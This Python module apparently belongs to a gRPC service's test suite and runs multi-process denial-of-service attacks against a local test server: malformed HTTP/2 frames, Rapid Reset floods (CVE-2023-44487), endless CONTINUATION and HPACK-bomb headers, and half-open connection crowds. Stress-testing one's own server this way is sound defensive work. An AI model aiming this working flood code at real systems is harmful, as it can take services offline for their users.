"""Attacks that cost their client little, and the processes that send them.

An attack is a function of an Attacker. Several processes run it at once and
again and again until they are stopped. This file has the attacks on HTTP/2 and
on connections; tests/system/hostile has those on the service.
"""

import collections
import contextlib
import dataclasses
import multiprocessing
import os
import random
import select
import socket
import struct
import time

import h2
import harness

ATTACKS = {}
CODES = dict(enumerate((
    "OK", "CANCELLED", "UNKNOWN", "INVALID_ARGUMENT", "DEADLINE_EXCEEDED",
    "NOT_FOUND", "ALREADY_EXISTS", "PERMISSION_DENIED", "RESOURCE_EXHAUSTED",
    "FAILED_PRECONDITION", "ABORTED", "OUT_OF_RANGE", "UNIMPLEMENTED",
    "INTERNAL", "UNAVAILABLE", "DATA_LOSS", "UNAUTHENTICATED")))
TOPK = "/topk.v1.TopKService/"
OIP = "/inference.GRPCInferenceService/"
HEALTH = "/grpc.health.v1.Health/"
# Settings of clients with windows of 2 GiB and of zero bytes.
WIDE = ((h2.HEADER_TABLE_SIZE, 0), (h2.INITIAL_WINDOW_SIZE, (1 << 31) - 1))
CLOSED = ((h2.HEADER_TABLE_SIZE, 0), (h2.INITIAL_WINDOW_SIZE, 0))


@dataclasses.dataclass
class Attack:
    """An attack and its server.

    flags         the server's, in addition to those of the test
    processes     the number of attackers
    rounds        the least number of delivered() calls
    seconds       the least duration
    arriving      MiB of messages that gRPC is receiving, which the server
                  counts only once they are complete
    caller        keyword arguments of the honest caller
    longest       the seconds that a call of the honest caller may take
    valid         whether the server must accept each request of the attack
    sanitized    whether a server with sanitizers is fast enough for it
    needs_haproxy whether gRPC 1.51 withstands it only behind HAProxy
    """

    function: object
    flags: tuple = ()
    processes: int = 2
    rounds: int = 1
    seconds: float = 0.8
    arriving: int = 0
    caller: dict = dataclasses.field(default_factory=dict)
    longest: float = 0.25
    valid: bool = False
    needs_haproxy: bool = False
    sanitized: bool = True


def attack(**how):
    """Registers a function as an attack."""

    def register(function):
        ATTACKS[function.__name__] = Attack(function, **how)
        return function

    return register


class Client(h2.Connection):
    """A connection that opens calls and records how each of them ends.

    By default streams keep a window of 64 KiB, so that large responses stay on
    the server.
    """

    def __init__(self, target, source, **how):
        # Does not wait for the server's SETTINGS: a stopped server sends none.
        super().__init__(target, source=source, **{"greets": False, **how})
        self.outcomes = {}
        self.messages = collections.Counter()
        self._next = 1

    def new_streams(self, count):
        """Returns ids of streams that nothing has been sent on."""
        first, self._next = self._next, self._next + 2 * count
        return range(first, self._next, 2)

    def open(self, path, timeout=None):
        """Starts a call; returns its stream."""
        stream, = self.new_streams(1)
        self.send(h2.call(stream, h2.fields(path=path, grpc_timeout=timeout)))
        return stream

    def call(self, path, *messages, end=True, timeout=None, seconds=3):
        """Starts a call and sends its messages; returns its stream."""
        stream = self.open(path, timeout)
        body = b"".join(h2.message(one) for one in messages)
        self.upload(stream, body, end, seconds)
        return stream

    def reset(self, *streams):
        self.send(b"".join(h2.rst_stream(stream) for stream in streams))

    def poll(self, seconds):
        """Receives for at most `seconds`, or until something has arrived."""
        if self.closed:
            return
        if select.select([self.socket], [], [], seconds)[0]:
            self._receive()
            self._reply()
        for kind, flags, stream, payload in self.frames:
            if kind == h2.RST_STREAM:
                self.outcomes.setdefault(stream, "reset")
            elif kind == h2.HEADERS and flags & h2.END_STREAM:
                self.outcomes.setdefault(stream, _status_of(payload))
            elif kind == h2.DATA:
                self.messages[stream] += len(payload)
        self.frames.clear()

    def wait(self, streams, seconds):
        """Waits until all streams have ended; returns the others."""
        deadline = time.monotonic() + seconds
        left = set(streams) - self.outcomes.keys()
        while left and not self.closed and time.monotonic() < deadline:
            self.poll(deadline - time.monotonic())
            left -= self.outcomes.keys()
        return left


def _status_of(trailers):
    at = trailers.find(b"grpc-status")
    if at < 0:
        return "no status"
    at += len(b"grpc-status")
    size = trailers[at] & 127
    number = int(trailers[at + 1:at + 1 + size] or b"2")
    return CODES.get(number, str(number))


class Attacker:
    """One process of an attack.

    target  the server's address
    number  the process's number
    random  chooses the variant of each round; seeded
    """

    def __init__(self, target, number, seed, stop, rounds):
        self.target = target
        self.number = number
        self.random = random.Random(f"{seed} {number}")
        self.outcomes = collections.Counter()
        self._stop = stop
        self._rounds = rounds
        self._sources = 0
        self._until = time.monotonic() + 60

    def goes_on(self):
        """Returns false once the attack is stopped or 60 s old."""
        return not self._stop.is_set() and time.monotonic() < self._until

    def delivered(self, count=1):
        """Counts what has been sent, because an attack that sends nothing
        tests nothing."""
        with self._rounds.get_lock():
            self._rounds.value += count

    def source(self):
        """Returns a new source address, by which servers count clients."""
        self._sources += 1
        return f"127.1.{self.number}.{1 + self._sources % 250}"

    def connect(self, **how):
        return Client(self.target, self.source(), **how)

    def pause(self, seconds=0.05):
        self._stop.wait(seconds)

    def hold(self, *clients):
        """Keeps connections open until the attack ends."""
        while self.goes_on():
            for client in clients:
                client.poll(0.02)
            self.pause(0.02)

    def hold_and_close(self, clients):
        """Keeps the connections open, counts their calls and closes them."""
        self.hold(*clients)
        for client in clients:
            self.outcomes.update(client.outcomes.values())
            client.socket.close()

    def count(self, client, streams):
        """Counts how these calls ended."""
        self.outcomes.update(client.outcomes.pop(stream, "no end")
                             for stream in streams)

    def keep_calling(self, start, outstanding=4, patience=0.3):
        """Keeps `outstanding` calls open on a connection, at most 200 new ones
        per second, and resets those that have no response after `patience`
        seconds. start(client) starts a call and returns its stream."""
        while self.goes_on():
            with self.connect() as client:
                begun = {}
                while self.goes_on() and not client.closed:
                    if len(begun) < outstanding:
                        begun[start(client)] = time.monotonic()
                        self.delivered()
                    client.wait([0], 0.005)
                    now = time.monotonic()
                    late = [stream for stream, since in begun.items()
                            if stream not in client.outcomes and
                            now - since > patience]
                    client.reset(*late)
                    self.outcomes["given up"] += len(late)
                    ended = begun.keys() & client.outcomes.keys()
                    self.count(client, ended)
                    for stream in [*late, *ended]:
                        del begun[stream]
            self.pause()


def _attack(function, attacker, pipe):
    os.nice(10)
    while attacker.goes_on():
        try:
            function(attacker)
        except OSError:  # The server is draining or gone.
            attacker.pause()
    pipe.send(attacker.outcomes)


class Attackers:
    """The processes of an attack; stopped at the end of a with block."""

    def __init__(self, chosen, target, seed):
        self._stop = multiprocessing.Event()
        self._rounds = multiprocessing.Value("q", 0)
        self._processes = {}
        for number in range(chosen.processes):
            attacker = Attacker(target, number, seed, self._stop, self._rounds)
            pipe, other = multiprocessing.Pipe()
            self._processes[pipe] = multiprocessing.Process(
                target=_attack, args=(chosen.function, attacker, other),
                daemon=True)
            self._processes[pipe].start()

    def __enter__(self):
        return self

    def __exit__(self, *_):
        for process in self._processes.values():
            process.kill()
            process.join()

    @property
    def rounds(self):
        return self._rounds.value

    def stop(self):
        """Stops the processes. Returns how their calls ended."""
        self._stop.set()
        outcomes = collections.Counter()
        for pipe in self._processes:
            if pipe.poll(3):
                outcomes.update(pipe.recv())
        return outcomes


# Frames -----------------------------------------------------------------------


@attack(rounds=100)
def random_frames(attacker):
    """Frames of any kind, flags, stream and length among those of a call."""
    chance = attacker.random
    with attacker.connect() as client:
        frames = [h2.call(1, h2.fields("StreamTopK")),
                  h2.data(1, h2.message(harness.REQUEST))]
        for _ in range(chance.randrange(1, 6)):
            size = chance.choice((0, 1, 4, 5, 6, 8, 9, 100, 20000))
            payload = chance.choice((chance.randbytes(size),
                                     h2.block(h2.fields())))
            frames.insert(chance.randrange(len(frames) + 1), h2.frame(
                chance.randrange(12), chance.randrange(256),
                chance.choice((0, 1, 1, 2, 3, (1 << 31) - 1)), payload,
                chance.choice((None, None, None, 0, (1 << 24) - 1))))
        client.send(b"".join(frames))
        attacker.delivered()
        client.poll(0.02)


@attack(rounds=2000)
def unknown_methods(attacker):
    """Calls of a method that does not exist."""
    with attacker.connect() as client:
        while attacker.goes_on() and not client.closed:
            streams = client.new_streams(100)
            client.send(b"".join(h2.call(stream, h2.fields("Bogus"), True)
                                 for stream in streams))
            attacker.delivered(100)
            client.wait(streams, 1)
            attacker.count(client, streams)


@attack(rounds=2000, processes=1, flags=("--threads=4", "--pollers=2"),
        arriving=64, longest=2, needs_haproxy=True)
def rapid_reset(attacker):
    """CVE-2023-44487: calls that are reset at once, half of them with a whole
    request."""
    with attacker.connect() as client:
        for batch in range(50):
            if not attacker.goes_on() or client.closed:
                break
            client.send(b"".join(
                (h2.request(stream, h2.fields(), harness.REQUEST)
                 if batch % 2 else h2.call(stream, h2.fields())) +
                h2.rst_stream(stream) for stream in client.new_streams(200)), 1)
            attacker.delivered(200)
            client.poll(0)
        attacker.hold(client)


@attack(rounds=100, needs_haproxy=True)
def endless_headers(attacker):
    """Header fields without an end, as in CVE-2024-27316, a byte that stands for
    a field of HPACK's table, again and again, or a field of a gigabyte, as in
    CVE-2023-33953."""
    whole = h2.block(h2.fields())
    first, piece = attacker.random.choice((
        (whole, b"".join(h2.field(f"k{i}", "v" * 60) for i in range(70))),
        (whole + h2.field("bomb", "v" * 10, 0x40), h2.indexed(62) * 160),
        (b"\0" + h2.string("x") + h2.integer(1 << 30, 7), b"v" * 16000)))
    with attacker.connect(ack=False) as client:
        client.send(h2.frame(h2.HEADERS, 0, 1, first))
        wire = h2.frame(h2.CONTINUATION, 0, 1, piece) * 4
        while attacker.goes_on() and not client.closed:
            client.send(wire, 1)
            attacker.delivered()


# Connections ------------------------------------------------------------------


@attack(rounds=1000, flags=("--handshake-timeout=1s",), sanitized=False)
def connection_crowd(attacker):
    """500 connections in each state of the handshake, closed in any order."""
    chance = attacker.random
    host, port = attacker.target.rsplit(":", 1)
    with contextlib.ExitStack() as stack:
        crowd = [stack.enter_context(socket.socket()) for _ in range(500)]
        while attacker.goes_on():
            at = chance.randrange(len(crowd))
            if chance.random() < 0.3:  # closes with a RST
                crowd[at].setsockopt(socket.SOL_SOCKET, socket.SO_LINGER,
                                     struct.pack("ii", 1, 0))
            crowd[at].close()
            crowd[at] = stack.enter_context(socket.socket())
            crowd[at].bind((attacker.source(), 0))
            crowd[at].connect((host, int(port)))
            crowd[at].sendall(chance.choice((
                b"", h2.PREFACE[:12], h2.PREFACE, h2.PREFACE + h2.settings())))
            attacker.delivered()
